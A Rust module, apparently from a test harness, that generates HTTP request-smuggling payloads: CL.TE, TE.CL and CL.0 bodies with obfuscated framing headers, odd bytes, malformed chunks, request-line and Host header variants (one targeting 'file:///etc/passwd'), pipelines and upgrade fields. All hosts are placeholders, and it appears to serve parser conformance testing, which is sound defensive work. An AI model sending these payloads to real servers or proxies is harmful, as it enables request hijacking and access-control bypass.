//! Requests made ambiguous in every way that is publicly known, and in combinations of them.
//!
//! The families bear the names that the literature on request smuggling gives them: CL.TE is a request whose first
//! reader believes its Content-Length and whose second its Transfer-Encoding, and so on.

use crate::common::{HOST, OTHER};

pub(crate) type Payload = (String, Vec<u8>);

/// What is to be smuggled.
fn hidden() -> String {
    format!("GET /smuggled HTTP/1.1\r\nHost: {HOST}\r\n\r\n")
}

/// Bytes that some parser drops, skips, folds or takes for white space, and some that none does.
const ODD: &[u8] = &[
    0, 1, 7, 8, 9, 10, 11, 12, 13, 14, 27, 28, 29, 30, 31, 32, b'!', b'"', b'#', b'\'', b'(', b'+',
    b',', b'-', b'.', b'/', b'0', b':', b';', b'=', b'@', b'[', b'\\', b'_', b'`', b'x', b'{',
    b'~', 127, 128, 0x85, 0xa0, 0xad, 0xc2, 0xe2, 0xff,
];

fn post(fields: &[u8], body: &[u8]) -> Vec<u8> {
    let head = format!("POST /first HTTP/1.1\r\nHost: {HOST}\r\n");
    [head.as_bytes(), fields, b"\r\n\r\n", body].concat()
}

/// Bodies that two framings end at different places.
fn bodies() -> Vec<(&'static str, Vec<u8>)> {
    let hidden = hidden();
    let chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
    vec![
        ("CL.TE", format!("0\r\n\r\n{hidden}").into()),
        ("TE.CL", chunk.into()),
        ("CL.0", hidden.into()),
        ("none", Vec::new()),
    ]
}

const CODINGS: &[&str] = &[
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding\t: chunked",
    " Transfer-Encoding: chunked",
    "\tTransfer-Encoding: chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:  chunked  ",
    "Transfer-Encoding: \tchunked\t",
    "tRANSFER-eNCODING: ChUnKeD",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding: chunk",
    "Transfer-Encoding: chunked chunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: , chunked, ,",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: identity, chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: cow",
    "Transfer-Encoding:",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunked;",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\r\n\tchunked",
    "Transfer-Encoding: chunked\r\n x",
    "Transfer-Encoding\r\n : chunked",
    "Transfer-Encoding\r\n: chunked",
    "Transfer-Encoding:\nchunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\r\rTransfer-Encoding: chunked",
    "X: y\r\n\rTransfer-Encoding: chunked",
    "X: y\n\r\nTransfer-Encoding: chunked",
    "\nTransfer-Encoding: chunked",
    "\rTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer Encoding: chunked",
    "Transfer-Encoding chunked",
    "Transfer-Encoding= chunked",
    "Transfer\u{2010}Encoding: chunked",
    "Transfer-Encodin\u{121}: chunked",
    "X-Transfer-Encoding: chunked",
    "Content-Encoding: chunked",
    "TE: chunked",
    "Trailer: Transfer-Encoding",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Proxy-Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    ":Transfer-Encoding: chunked",
    ": chunked",
    ":",
    "\0: chunked",
];

const LENGTHS: &[&str] = &[
    "Content-Length: 5",
    "Content-Length: 0",
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: -0",
    "Content-Length: 0x5",
    "Content-Length: 05",
    "Content-Length: 5.0",
    "Content-Length: 5e0",
    "Content-Length: 5,5",
    "Content-Length: 5, 6",
    "Content-Length: 5 6",
    "Content-Length: 5;",
    "Content-Length: \"5\"",
    "Content-Length: 5_0",
    "Content-Length: \u{665}",
    "Content-Length:",
    "Content-Length: ,",
    "Content-Length: 5,",
    "Content-Length: 18446744073709551615",
    "Content-Length: 18446744073709551616",
    "Content-Length: 18446744073709551621",
    "Content-Length: 4294967301",
    "Content-Length: 99999999999999999999999999999999",
    "Content-Length: 5\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 6",
    "Content-Length: 5\r\ncontent-length: 0",
    "Content-Length : 5",
    "Content-Length\t: 5",
    " Content-Length: 5",
    "Content-Length:\r\n 5",
    "Content-Length: 5\r\n 6",
    "Content_Length: 5",
    "Content-Length: five",
    "X: y\nContent-Length: 5",
    "X: y\rContent-Length: 5",
    "Connection: Content-Length\r\nContent-Length: 5",
    "Connection: close, content-length\r\nContent-Length: 46",
];

/// A framing field in every disguise, with bodies that two framings end at different places.
pub(crate) fn framings() -> Vec<Payload> {
    let mut all = Vec::new();
    for fields in CODINGS.iter().chain(LENGTHS) {
        for (family, body) in bodies() {
            let name = format!("{family} by {fields:?}");
            all.push((name, post(fields.as_bytes(), &body)));
        }
    }
    all
}

/// Each odd byte at each place around the names and values of framing fields, and in the line before them.
pub(crate) fn odd_bytes() -> Vec<Payload> {
    let mut all = Vec::new();
    for byte in ODD {
        let shapes: [[&[u8]; 2]; 12] = [
            [b"", b"Transfer-Encoding: chunked"],
            [b"Transfer-Encoding", b": chunked"],
            [b"Transfer-Encoding:", b"chunked"],
            [b"Transfer-Encoding: chunked", b""],
            [b"Transfer", b"Encoding: chunked"],
            [b"", b"Content-Length: 5"],
            [b"Content-Length", b": 5"],
            [b"Content-Length:", b"5"],
            [b"Content-Length: 5", b""],
            [b"Content-Length: 4", b"6"],
            [b"Content-Length: 5\r\nX: y", b"Transfer-Encoding: chunked"],
            [b"Content-Length: 5\r\nX", b"y: z"],
        ];
        for (number, [before, after]) in shapes.iter().enumerate() {
            let fields = [before, &[*byte][..], after].concat();
            let (family, body) = &bodies()[usize::from(number >= 5) * 2];
            let name = format!("{family} by {}", fields.escape_ascii());
            all.push((name, post(&fields, body)));
        }
    }
    all
}

/// Both framings at once, in either order, each good or obfuscated.
pub(crate) fn lengths_and_codings() -> Vec<Payload> {
    let mut all = Vec::new();
    for coding in CODINGS {
        for length in [
            "Content-Length: 5",
            "Content-Length: 46",
            "content-length:0",
        ] {
            for [first, second] in [[*coding, length], [length, *coding]] {
                let (family, body) = &bodies()[(first.len() + second.len()) % 2];
                let fields = format!("{first}\r\n{second}");
                all.push((
                    format!("{family} by {fields:?}"),
                    post(fields.as_bytes(), body),
                ));
            }
        }
    }
    all
}

/// Sizes, extensions, ends of lines and of chunks, and trailers.
pub(crate) fn chunks() -> Vec<Payload> {
    let hidden = hidden();
    let after = |size: &str| format!("{size}\r\nhello\r\n0\r\n\r\n{hidden}");
    let mut bodies: Vec<String> = [
        "5",
        "05",
        "0000000000000005",
        "00000000000000005",
        "0x5",
        "+5",
        "-5",
        " 5",
        "5 ",
        "5\t",
        "5 ;x",
        "5,",
        "5_",
        "5h",
        "5.",
        "",
        "G",
        "5;",
        "5;ext",
        "5;ext=a",
        "5;ext=\"a;b\"",
        "5; ext",
        "5;\0",
        "5;\t",
        "5\n",
        "5\r",
        "5;a\n",
        "5;a\r",
        "5;a\rb",
        "5;\nx",
        "5\r\n",
        "\n5",
        "\r\n5",
        "5\u{a0}",
        "ffffffffffffffff",
        "fffffffffffffffff",
        "8000000000000005",
        "10000000000000005",
        "100000005",
        "5;ext=\"\r\n\"",
        "5\\",
        "\"5\"",
        "5\0",
        "5\u{b}",
    ]
    .map(after)
    .into();
    bodies.push(after(&format!("5;{}", "a".repeat(300))));
    bodies.push(after(&format!("5{}", " ".repeat(300))));
    // Ends of data: too short, too long, of another kind.
    for end in [
        "\n", "\r", "", "\r\r\n", "\n\r\n", "x\r\n", "\r\nx", "\0\r\n", "  ", "\r\n\r\n",
    ] {
        bodies.push(format!("5\r\nhello{end}0\r\n\r\n{hidden}"));
    }
    // The last chunk, and what stands for trailers.
    for last in [
        "0\n\n",
        "0\r\n\n",
        "0\r\r\n",
        "0\n\r\n",
        "00\r\n\r\n",
        "0000000000000000000\r\n\r\n",
        "0;x\r\n\r\n",
        "0 \r\n\r\n",
        "-0\r\n\r\n",
        "0x0\r\n\r\n",
        "0\r\nTransfer-Encoding: chunked\r\n\r\n",
        "0\r\nContent-Length: 5\r\n\r\n",
        "0\r\ncontent_length: 5\r\n\r\n",
        "0\r\nHost: other.example.test\r\n\r\n",
        "0\r\nX: y\r\n\r\n",
        "0\r\nX : y\r\n\r\n",
        "0\r\n X: y\r\n\r\n",
        "0\r\nX\r\n\r\n",
        "0\r\nX: y\r\n Z\r\n\r\n",
        "0\r\nX: y\nContent-Length: 5\r\n\r\n",
        "0\r\nX: y\r\rContent-Length: 5\r\n\r\n",
        "0\r\n\rX: y\r\n\r\n",
        "0\r\n: y\r\n\r\n",
        "0\r\nX: \0\r\n\r\n",
        "0\r\nConnection: close\r\n\r\n",
        "0\r\nTE: trailers\r\n\r\n",
        "0\r\nAuthorization: x\r\n\r\n",
        "0\r\nExpect: 100-continue\r\n\r\n",
        "0\r\nUpgrade: h2c\r\n\r\n",
    ] {
        bodies.push(format!("5\r\nhello\r\n{last}{hidden}"));
    }
    // Lines of sizes whose end two readers see at different places, and data that spills over.
    let len = hidden.len();
    bodies.extend([
        format!("2;\nxx\r\n{len:x}\r\n0\r\n\r\n{hidden}\r\n0\r\n\r\n"),
        format!("2\nxx\r\n{len:x}\r\n0\r\n\r\n{hidden}\r\n0\r\n\r\n"),
        format!("{len:x};\n\r\n0\r\n\r\n{hidden}"),
        format!("{len:x}\r;\n0\r\n\r\n{hidden}"),
        format!("5\r\nhelloXX{len:x}\r\n0\r\n\r\n{hidden}0\r\n\r\n"),
        format!("5\r\nhello{len:x}\r\n{hidden}\r\n0\r\n\r\n"),
        format!("5\r\nhello\r\n0\r\n{hidden}"),
        format!("5\r\nhello\r\n0\r\nX: y\r\n{hidden}"),
        format!("5\r\nhello\r\n{hidden}"),
        format!("{hidden}0\r\n\r\n"),
        format!("\r\n5\r\nhello\r\n0\r\n\r\n{hidden}"),
        "5\r\nhel".to_owned(),
        "5\r\nhello".to_owned(),
        "5\r\nhello\r\n".to_owned(),
        "5\r\nhello\r\n0\r\n".to_owned(),
        "5".to_owned(),
    ]);
    let payload = |body: String| {
        let name = format!("chunks {:?}", &body[..body.floor_char_boundary(24)]);
        (name, post(b"Transfer-Encoding: chunked", body.as_bytes()))
    };
    bodies.into_iter().map(payload).collect()
}

pub(crate) fn request_lines() -> Vec<Payload> {
    let mut lines: Vec<Vec<u8>> = Vec::new();
    for version in [
        "HTTP/1.1",
        "HTTP/1.0",
        "HTTP/1.2",
        "HTTP/1.9",
        "HTTP/2.0",
        "HTTP/2",
        "HTTP/3",
        "HTTP/0.9",
        "HTTP/1",
        "HTTP/1.",
        "HTTP/1.10",
        "HTTP/1.01",
        "HTTP/01.1",
        "HTTP/11.1",
        "http/1.1",
        "Http/1.1",
        "HTTP/1.1 ",
        "HTTP/ 1.1",
        "HTTP /1.1",
        "HTTP/1,1",
        "HTTP/1.1x",
        "HTTP/1.1\0",
        "HTTP/1.1\t",
        "HTTPS/1.1",
        "ICY/1.1",
        "XTTP/1.1",
        "",
        " ",
        "/1.1",
        "1.1",
        "HTTP/1.1 HTTP/1.1",
        "HTTP\\1.1",
    ] {
        lines.push(format!("GET /first {version}\r\n").into());
        lines.push(format!("GET /first?x= {version} HTTP/1.1\r\n").into());
    }
    lines.push(b"GET /first\r\n".to_vec());
    for method in [
        "get",
        "Get",
        "GET\0",
        "G\0ET",
        "GE T",
        "G@T",
        "GET:",
        "GET/",
        "\"GET\"",
        "",
        " GET",
        "\tGET",
        "\u{b}GET",
        "\u{c}GET",
        "\0GET",
        "\nGET",
        "\rGET",
        "\r\nGET",
        "\r\n\r\n\r\nGET",
        "\r\n\nGET",
        "\r\n\rGET",
        "\n\nGET",
        "\u{feff}GET",
        "HEAD",
        "OPTIONS",
        "DELETE",
        "TRACE",
        "TRACK",
        "PATCH",
        "QUERY",
        "PRI",
        "CONNECT",
        "X-Y",
        "M-SEARCH",
        "~",
        "!",
        "GETGETGETGETGETGETGETGETGETGETGETGETGETGETGETGET",
    ] {
        lines.push(format!("{method} /first HTTP/1.1\r\n").into());
    }
    for target in [
        "/a b",
        "/a\tb",
        "//x",
        "///",
        "/a#b",
        "#",
        "?",
        "*",
        "",
        "first",
        "../first",
        "/..",
        "/%2e%2e/",
        "/a\\b",
        "\\",
        "/%0d%0aHost:%20x",
        "/\0",
        "/a\0b",
        "/\u{1}",
        "/\u{7f}",
        "/\u{e9}",
        "/\u{2028}",
        "/[",
        "/\"",
        "/<>",
        "/{}",
        "/|",
        "/^",
        "/`",
        "/%",
        "/%zz",
        "/;x",
        "/?",
        "/??",
        "/?a?b#",
        "https://api.example.test",
        "https://api.example.test/",
        "https://api.example.test?x",
        "https://api.example.test/first",
        "HTTPS://api.example.test/first",
        "https://API.example.test/first",
        "https://api.example.test:443/first",
        "https://api.example.test:80/first",
        "https://api.example.test:/first",
        "https://other.example.test/first",
        "https://api.example.test@other.example.test/",
        "https://other.example.test\\@api.example.test/",
        "https://api.example.test#@other.example.test/",
        "https://other.example.test#@api.example.test/",
        "https:///first",
        "https:/first",
        "https:first",
        "https://",
        "http://api.example.test/first",
        "ws://api.example.test/first",
        "api.example.test:443",
        "api.example.test",
        "file:///etc/passwd",
        "//other.example.test/first",
        "/https://other.example.test/",
        "@other.example.test/",
        "/first HTTP/1.1\r\nX: y",
        "/first\rHTTP/1.1",
        "/first HTTP/1.1\nX: y",
        "/first\u{a0}HTTP/1.1",
    ] {
        lines.push(format!("GET {target} HTTP/1.1\r\n").into());
        lines.push(format!("OPTIONS {target} HTTP/1.1\r\n").into());
    }
    for separator in [
        "  ", "\t", " \t", "\u{b}", "\u{c}", "\u{a0}", "\r", "\n", "\0", "", "+", "%20",
    ] {
        lines.push(format!("GET{separator}/first HTTP/1.1\r\n").into());
        lines.push(format!("GET /first{separator}HTTP/1.1\r\n").into());
    }
    for end in [
        "\n", "\r", "\r\r\n", "\n\r\n", "\r\n\r\n", "\r\n\n", "\0\r\n", " \r\n", "\u{85}",
        "\u{2028}", "",
    ] {
        lines.push(format!("GET /first HTTP/1.1{end}").into());
    }
    lines.push(b"GET /\xff\xfe HTTP/1.1\r\n".to_vec());
    lines.push(b"G\xffT /first HTTP/1.1\r\n".to_vec());
    let payload = |line: Vec<u8>| {
        let name = format!("line {}", line.escape_ascii());
        let rest = format!("Host: {HOST}\r\n\r\n{}", hidden());
        (name, [&line, rest.as_bytes()].concat())
    };
    lines.into_iter().map(payload).collect()
}

pub(crate) fn hosts() -> Vec<Payload> {
    let lines = [
        format!("Host: {HOST}"),
        format!("HOST:{HOST}"),
        format!("Host: {HOST}:443"),
        String::new(),
        "Host:".to_owned(),
        "Host: ".to_owned(),
        "Host: ,".to_owned(),
        format!("Host: {HOST}\r\nHost: {HOST}"),
        format!("Host: {HOST}\r\nHost: {OTHER}"),
        format!("Host: {OTHER}\r\nHost: {HOST}"),
        format!("Host: {HOST}\r\nhost: {OTHER}"),
        format!("Host: {HOST}\r\nHost:"),
        format!("Host:\r\nHost: {HOST}"),
        format!("Host: {HOST}, {OTHER}"),
        format!("Host: {HOST}\r\n {OTHER}"),
        format!("Host:\r\n {HOST}"),
        format!("Host : {HOST}"),
        format!(" Host: {HOST}"),
        format!("Host\0: {HOST}"),
        format!("Host: {HOST}\0.{OTHER}"),
        format!("Host: {HOST}\nHost: {OTHER}"),
        format!("Host: {HOST}\rHost: {OTHER}"),
        format!("Host: {HOST} {OTHER}"),
        format!("Host: {HOST}\t{OTHER}"),
        format!("Host: {HOST}@{OTHER}"),
        format!("Host: {OTHER}@{HOST}"),
        format!("Host: {HOST}:443@{OTHER}"),
        format!("Host: {HOST}/{OTHER}"),
        format!("Host: {HOST}?{OTHER}"),
        format!("Host: {HOST}#{OTHER}"),
        format!("Host: https://{HOST}"),
        format!("Host: {HOST}:0x1bb"),
        format!("Host: {HOST}:"),
        format!("Host: {HOST}:65536"),
        format!("Host: {HOST}:-1"),
        format!("Host: [{HOST}]"),
        format!("Host: {OTHER}"),
        format!("X-Host: {HOST}"),
        format!("Host: {HOST}\r\nX-Forwarded-Host: {OTHER}"),
        format!("Host: {HOST}\r\nForwarded: host={OTHER}"),
        format!("Host: {HOST}\r\nConnection: Host"),
        format!("Host: {HOST}\r\n:authority: {OTHER}"),
        format!("Ho\u{17f}t: {HOST}"),
    ];
    let mut all = Vec::new();
    for line in lines {
        for version in ["HTTP/1.1", "HTTP/1.0"] {
            let name = format!("{version} {line:?}");
            let request = format!("GET /first {version}\r\n{line}\r\n\r\n{}", hidden());
            all.push((name, request.into()));
        }
    }
    all
}

/// Requests in one piece, good ones and bad ones, and bodies where none is expected.
pub(crate) fn pipelines() -> Vec<Payload> {
    let hidden = hidden();
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n");
    let with = |method: &str, fields: &str, body: &str| {
        format!("{method} /first HTTP/1.1\r\nHost: {HOST}\r\n{fields}\r\n\r\n{body}")
    };
    let mut all = vec![
        (1..=5).map(|n| get(&format!("/{n}"))).collect::<String>(),
        with("POST", "Content-Length: 5", "hello") + &get("/2"),
        with("POST", "Content-Length: 5", "hello\r\n") + &get("/2"),
        with("POST", "Content-Length: 5", "hello\n") + &get("/2"),
        with("POST", "Content-Length: 5", "hello\0") + &get("/2"),
        with("POST", "Content-Length: 5", "helloGARBAGE"),
        with("POST", "Content-Length: 5", "hell"),
        with("POST", "Content-Length: 4", "hello") + &get("/2"),
        with(
            "POST",
            "Transfer-Encoding: chunked",
            "5\r\nhello\r\n0\r\n\r\n",
        ) + &get("/2"),
        with("POST", "Connection: close", "") + &get("/2"),
        with("POST", "Connection: close\r\nContent-Length: 5", "hello") + &get("/2"),
        get("/1") + "\r\n\r\n" + &get("/2"),
        get("/1") + "GARBAGE\r\n\r\n" + &get("/2"),
        get("/1") + "\0" + &get("/2"),
        get("/1") + &get("/2").replace("\r\n", "\n"),
        get("/1") + &get("/2").replace(HOST, OTHER) + &get("/3"),
        get("/1") + "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        get("/1") + "\u{16}\u{3}\u{1}",
        get("/1") + "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
        get("/1") + "GET /2 HTTP/1.1\r\nHost: ",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(),
    ];
    for method in [
        "GET", "HEAD", "DELETE", "OPTIONS", "TRACE", "PUT", "CONNECT",
    ] {
        for (_, body) in bodies() {
            let body = String::from_utf8(body).unwrap();
            let length = format!("Content-Length: {}", hidden.len());
            all.push(with(method, &length, &body));
            all.push(with(method, "Transfer-Encoding: chunked", &body));
            all.push(with(method, "X: y", &body));
        }
    }
    let payload = |(number, text): (usize, String)| (format!("pipeline {number}"), text.into());
    all.into_iter().enumerate().map(payload).collect()
}

/// Expectations, upgrades, and fields that end at this hop.
pub(crate) fn switches() -> Vec<Payload> {
    let settings = "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA";
    let fields = [
        "Expect: 100-continue",
        "Expect: 100-Continue",
        "Expect: 100-continue, x",
        "Expect: x, 100-continue",
        "Expect: 100-continue\r\nExpect: 100-continue",
        "Expect: 100-continue\r\nExpect: x",
        "Expect: y 100-continue",
        "Expect:\r\n 100-continue",
        "Expect : 100-continue",
        "Expect: 200-ok",
        "Expect:",
        "Upgrade: h2c\r\nConnection: Upgrade",
        &format!("Upgrade: h2c\r\n{settings}\r\nConnection: Upgrade, HTTP2-Settings"),
        &format!("Upgrade: H2C\r\n{settings}\r\nConnection: Upgrade"),
        &format!("upgrade: h2c\r\n{settings}"),
        &format!("Upgrade: h2c\r\n{settings}\r\nConnection: HTTP2-Settings"),
        "Upgrade: h2c\r\nUpgrade: websocket\r\nConnection: Upgrade",
        "Upgrade: websocket, h2c\r\nConnection: Upgrade",
        "Upgrade:\th2c\r\nConnection: Upgrade",
        "Upgrade: h2c,\r\nConnection: Upgrade",
        "Upgrade: TLS/1.2, HTTP/1.1\r\nConnection: Upgrade",
        "Connection: close",
        "Connection: keep-alive, X",
        "Connection: X\r\nX: y",
        "Connection: close, X, Host",
        "Connection: Cookie, Authorization\r\nCookie: a",
        "Connection: \0",
        "Keep-Alive: timeout=5",
        "Proxy-Connection: keep-alive",
        "TE: trailers, chunked",
        "Max-Forwards: 0",
        "Trailer: Content-Length",
    ];
    let mut all = Vec::new();
    for field in fields {
        for (framing, body) in [
            ("X: y", String::new()),
            ("Content-Length: 5", "hello".to_owned()),
            ("Content-Length: 0", String::new()),
            (
                "Transfer-Encoding: chunked",
                "5\r\nhello\r\n0\r\n\r\n".to_owned(),
            ),
        ] {
            let fields = format!("{field}\r\n{framing}");
            let body = body + &hidden();
            all.push((
                format!("{fields:?}"),
                post(fields.as_bytes(), body.as_bytes()),
            ));
        }
    }
    all
}
